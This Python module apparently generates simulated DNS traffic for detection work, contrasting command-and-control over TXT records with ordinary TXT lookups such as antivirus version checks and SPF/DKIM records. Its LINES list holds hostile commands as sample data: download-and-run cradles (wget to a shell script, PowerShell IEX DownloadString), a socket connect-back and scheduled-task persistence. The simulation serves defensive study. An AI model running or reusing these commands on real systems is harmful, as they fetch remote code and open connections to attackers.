"""Commands fetched in TXT responses; and what resembles it."""

import base64

from streams.draw import BASE36, BASE64, DIGITS, HEX
from streams.scene import RESOLVER, SERVERS
from wire import MILLISECOND, SECOND

LINES = ("powershell -nop -w hidden -c \"Get-Process | Out-String\"", "cmd.exe /c whoami /all & ipconfig /all",
         "wget -q http://198.51.100.{n}/a.sh -O /tmp/.a; sh /tmp/.a", "schtasks /create /sc minute /tn Upd{n} /tr calc.exe",
         "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.{n}/s')", "#!/bin/sh\nuname -a; id; ls -la /home",
         "import os,socket;s=socket.socket();s.connect(('198.51.100.{n}',443))", "net user /domain; net group \"Domain Admins\"",
         "for f in $(ls /etc); do echo $f; done | head -n {n}", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")


def commands(scene):
    """<id>.cmd.<domain>, at a server of its own; encoded script lines come back, a few results go out."""
    rng = scene.rng
    domain, server = rng.domain(), rng.pick(SERVERS)
    zone = f"{rng.pick(('cmd', 'task', 'job', 'c', 'q', 'in'))}.{domain}"
    encode = rng.pick((lambda text: text.encode().hex(), lambda text: base64.b64encode(text.encode()).decode(),
                       lambda text: base64.b32encode(text.encode()).decode().lower().rstrip("=")))
    client_id, ttl = rng.text(rng.pick((HEX, DIGITS, BASE36)), rng.between(4, 10)), rng.between(0, 5)
    lines = [rng.pick(LINES).format(n=rng.between(10, 250)) for _ in range(rng.between(4, 12))]
    pause, jitter, count = rng.between(10, 60), rng.between(0, 15), rng.between(8, 60)
    for number in range(2):
        scene.ask(scene.start - 3 * SECOND + number * 400 * MILLISECOND, f"ns{number + 1}.{domain}", "A", server, client="10.20.0.23")
    results = rng.between(0, 10)
    for turn, time in enumerate(scene.beat(count, pause, jitter)):
        line = (lines[turn % len(lines)] + " #" + rng.text(BASE36, 8))[:140]
        scene.channel(time, f"{client_id}.{zone}", "TXT", encode(line), server=server, ttl=ttl)
        if turn < results:
            scene.channel(time + 2 * SECOND, f"{rng.text(HEX, rng.between(16, 60))}.{zone}", "A", server=server, ttl=ttl)
    return {domain}


def encrypted(scene):
    """One or a few names, asked regularly; each response is another order, encrypted."""
    rng = scene.rng
    zone, digits = rng.domain(), rng.pick((HEX, BASE64, BASE36))
    names = [f"{rng.pick(('q', 'u', 'time', 'v2', rng.text(BASE36, 6)))}{number}.{zone}" for number in range(rng.pick((1, 1, rng.between(2, 8))))]
    size, own, idle = rng.between(16, 120), rng.chance(50), rng.text(digits, rng.between(2, 12))
    server = rng.pick(SERVERS) if own else RESOLVER
    for turn, time in enumerate(scene.beat(rng.between(16, 80), rng.between(5, 90), rng.between(0, 20))):
        # Most polls find nothing to do.
        order = rng.text(digits, rng.between(size // 2, size)) if turn % 3 == 0 else idle
        scene.channel(time, names[turn % len(names)], "TXT", order, server=server, ttl=rng.pick((0, 1, 5)))
    return {zone}


# Ordinary

def antivirus_versions(scene):
    """The version of the signatures, asked all day."""
    rng, serial = scene.rng, 27_000 + scene.rng.below(300)
    pause = max(20, 1800 // scene.volume)
    for turn, time in enumerate(scene.beat(scene.hours * 3600 // pause, pause, 5)):
        scene.ask(time, "current.cvd.clamav.net", "TXT", f"0.103.11:62:{serial + turn // 8}:{time // SECOND}:1:90:49192:{334 + turn // 40}", ttl=1800)
    # A product no table knows does the same.
    zone = f"version.{rng.domain()}"
    for turn, time in enumerate(scene.beat(scene.hours * 3600 // pause, pause, 5)):
        scene.ask(time, zone, "TXT", f"{1 + turn // 30}.{turn % 30}.0;{time // SECOND}", ttl=300)


def policies(scene):
    """SPF, DKIM, DMARC and site verification of a company's own domains, polled."""
    rng = scene.rng
    domains = [rng.domain() for _ in range(rng.between(2, 5))]
    keys = {domain: "v=DKIM1; k=rsa; p=" + rng.text(BASE36 + "ABCDEFGHIJ+/", 216) for domain in domains}
    for client, time in scene.server(8):
        domain = rng.pick(domains)
        name, data = rng.pick(((domain, "v=spf1 include:_spf.mail-suite.example ~all"), (f"_dmarc.{domain}", "v=DMARC1; p=reject; rua=mailto:d@" + domain),
                               (f"s1._domainkey.{domain}", keys[domain]),
                               (domain, "site-verification=" + rng.text(BASE36, 43)), (f"_mta-sts.{domain}", "v=STSv1; id=20240312")))
        scene.ask(time, name, "TXT", data, client)


def whoami(scene):
    """One's own address, by a TXT query every so often."""
    rng, pause = scene.rng, max(10, 300 // scene.volume)
    for time in scene.beat(scene.hours * 3600 // pause, pause, 10):
        name = rng.pick(("o-o.myaddr.l.google.com", "whoami.ds.akahelp.net"))
        scene.ask(time, name, "TXT", rng.pick(("203.0.113.9", "ns198.51.100.4", "ip203.0.113.9")))


def versions(scene):
    """A scanner asks servers for version.bind."""
    rng, time = scene.rng, scene.start
    for _ in range(60 * scene.volume):
        host = f"10.20.{rng.below(8)}.{rng.between(1, 254)}"
        answer = rng.pick(("9.18.24", "9.16.48-Debian", "unbound 1.17.1", "dnsmasq-2.89", None))
        name = rng.pick(("version.bind", "hostname.bind", "id.server"))
        scene.ask(time, name, "TXT", answer, server=host, klass=3)
        time += rng.between(20, 400) * MILLISECOND
